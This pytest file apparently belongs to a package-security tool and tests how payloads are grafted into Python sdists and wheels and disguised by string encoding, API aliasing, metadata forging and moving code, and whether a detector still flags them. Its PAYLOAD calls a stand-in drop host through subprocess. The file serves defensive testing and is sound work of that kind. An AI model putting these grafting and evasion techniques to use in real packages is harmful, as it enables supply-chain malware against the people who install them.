"""Grafts and transformations: text moved in memory, still meaning what it meant."""

from __future__ import annotations

import ast
from collections.abc import Iterator, Mapping

import pytest

from model.grafts import Place, graft, main_module
from model.observing import opened
from model.payloads import payload_of, text_of
from model.transforms import Transform, transform
from safe_pip.distribution import Distribution, DistributionKind
from safe_pip.extractors import observe
from tests.builders import make_sdist, make_wheel, sdist_filename, wheel_filename

PAYLOAD = (
    "import subprocess\n"
    "result = subprocess.run(['canary', 'https://drop.zq-collect.site/k'], check=False)\n"
)
HOST = {
    "host/__init__.py": '"""A host."""\nfrom __future__ import annotations\n\nvalue = 1\n',
    "host/deep.py": "def f():\n    return 2\n",
    "host/keys.py": (
        "class Client:\n    def __init__(self, secret_key, url=''):\n"
        '        """A client."""\n        self.key = secret_key\n'
    ),
    "setup.py": "from setuptools import setup\n\nsetup(name='host', version='1.0')\n",
}
SAMPLE = {
    "setup.py": (
        "from setuptools import setup\nimport subprocess\n\n"
        "target = 'canary-address'\nsubprocess.run(['echo', target])\n\n"
        "setup(name='sample', version='1.0')\n"
    ),
    "sample/__init__.py": "",
}


def sdist(name: str, files: Mapping[str, str]) -> Iterator[Distribution]:
    content = make_sdist(name, "1.0", files=files, headers={"Summary": f"about {name}"})
    with opened(content, sdist_filename(name, "1.0")) as distribution:
        yield distribution


@pytest.fixture
def host() -> Iterator[Distribution]:
    yield from sdist("host", HOST)


@pytest.fixture
def sample() -> Iterator[Distribution]:
    yield from sdist("sample", SAMPLE)


@pytest.fixture
def wheel() -> Iterator[Distribution]:
    files = {path: text for path, text in HOST.items() if path != "setup.py"}
    with opened(make_wheel("host", "1.0", files=files), wheel_filename("host", "1.0")) as opened_:
        yield opened_


@pytest.mark.parametrize("place", list(Place))
def test_a_graft_changes_only_what_it_must_and_still_parses(
    host: Distribution, place: Place
) -> None:
    for seed in range(8):
        made = graft(host, PAYLOAD, place, seed)
        assert made is not None
        changed = [f.path for f in made.files if host.by_path.get(f.path) is not f]
        assert 1 <= len(changed) <= 2
        for path in changed:
            if path.endswith((".py", ".pth")):
                ast.parse(text_of(made.by_path[path]))
        assert made.headers == host.headers
        assert host.by_path["host/__init__.py"].read() == HOST["host/__init__.py"].encode()


def test_a_pth_graft_is_one_line_that_site_would_run(host: Distribution) -> None:
    made = graft(host, PAYLOAD, Place.PTH, 3)
    assert made is not None
    (startup,) = [file for file in made.files if file.path.endswith(".pth")]
    (line,) = text_of(startup).splitlines()
    assert line.startswith("import ")


def test_what_is_handed_on_is_found_and_its_host_without_keys_is_left_alone(
    host: Distribution, sample: Distribution
) -> None:
    for seed in range(12):
        made = graft(host, PAYLOAD, Place.HANDED_ON, seed)
        assert made is not None
        found = {item.feature for item in observe(made)}
        assert found & {"leak_to_stranger", "net_unknown_drop", "net_unknown_host"}
        assert "self.key = secret_key" in text_of(made.by_path["host/keys.py"])
    assert graft(sample, PAYLOAD, Place.HANDED_ON, 0) is None
    assert graft(host, "import subprocess\n", Place.HANDED_ON, 0) is None


def test_a_wheel_takes_no_set_up_graft(wheel: Distribution) -> None:
    assert graft(wheel, PAYLOAD, Place.SETUP, 0) is None
    assert graft(wheel, PAYLOAD, Place.BUILD_BACKEND, 0) is None


def test_a_graft_into_a_wheel_is_in_its_record(wheel: Distribution) -> None:
    made = graft(wheel, PAYLOAD, Place.SUBMODULE, 0)
    assert made is not None
    new = {file.path for file in made.files} - {file.path for file in wheel.files}
    record = next(file for file in made.files if file.path.endswith("/RECORD"))
    assert all(path in text_of(record) for path in new)


def test_the_payload_is_what_runs_beside_the_set_up_call(sample: Distribution) -> None:
    payload = payload_of(sample)
    assert payload is not None
    assert "canary-address" in payload
    assert "setup(" not in payload


def test_a_payload_that_only_defines_functions_gets_a_call() -> None:
    source = "import subprocess\n\ndef go():\n    return subprocess.run(['echo', 'canary'])\n"
    for distribution in sdist("sample", {"sample/__init__.py": source}):
        payload = payload_of(distribution)
        assert payload is not None
        assert payload.endswith("go()")


def test_an_install_command_becomes_a_plain_payload() -> None:
    source = (
        "from setuptools import setup\nfrom setuptools.command.install import install\n\n"
        "class Custom(install):\n    def run(self):\n        install.run(self)\n"
        "        import subprocess\n        subprocess.run(['echo', 'canary'])\n\n"
        "setup(cmdclass={'install': Custom})\n"
    )
    for distribution in sdist("sample", {"setup.py": source}):
        payload = payload_of(distribution)
        assert payload is not None
        assert payload.splitlines()[-1] == "subprocess.run(['echo', 'canary'])"


@pytest.mark.parametrize(
    "kind", [Transform.STRING_ENCODING, Transform.STRING_SPLITTING, Transform.API_ALIASING]
)
def test_rewritten_code_parses_and_hides_its_strings(
    sample: Distribution, host: Distribution, kind: Transform
) -> None:
    for seed in range(6):
        made = transform(sample, kind, host, seed)
        assert made is not None
        source = text_of(made.by_path["setup.py"])
        ast.parse(source)
        if kind is not Transform.API_ALIASING:
            assert "canary-address" not in source
        else:
            assert "subprocess.run" not in source


def test_encoded_strings_still_have_their_values(sample: Distribution, host: Distribution) -> None:
    for kind in (Transform.STRING_ENCODING, Transform.STRING_SPLITTING):
        for seed in range(6):
            made = transform(sample, kind, host, seed)
            assert made is not None
            tree = ast.parse(text_of(made.by_path["setup.py"]))
            (target,) = [node.value for node in tree.body if isinstance(node, ast.Assign)]
            assert eval(ast.unparse(target)) == "canary-address"


def test_forged_metadata_keeps_the_samples_name(sample: Distribution, host: Distribution) -> None:
    made = transform(sample, Transform.METADATA_FORGING, host, 0)
    assert made is not None
    assert made.header("name") == "sample"
    assert made.header("summary") == "about host"


def test_padding_keeps_every_file_of_the_sample(sample: Distribution, host: Distribution) -> None:
    made = transform(sample, Transform.PADDING, host, 0)
    assert made is not None
    assert set(sample.files) < set(made.files)


def test_a_moved_payload_is_elsewhere(sample: Distribution, host: Distribution) -> None:
    made = transform(sample, Transform.MOVING, host, 0)
    assert made is not None
    assert "canary-address" not in text_of(made.by_path["setup.py"])
    assert "canary-address" in text_of(made.by_path["sample/__init__.py"])


def test_an_sdist_becomes_a_wheel_without_a_set_up_script(
    sample: Distribution, host: Distribution
) -> None:
    made = transform(sample, Transform.SDIST_TO_WHEEL, host, 0)
    assert made is not None
    assert made.kind is DistributionKind.WHEEL
    assert "setup.py" not in made.by_path
    main = main_module(made)
    assert main is not None
    assert "canary-address" in text_of(main)
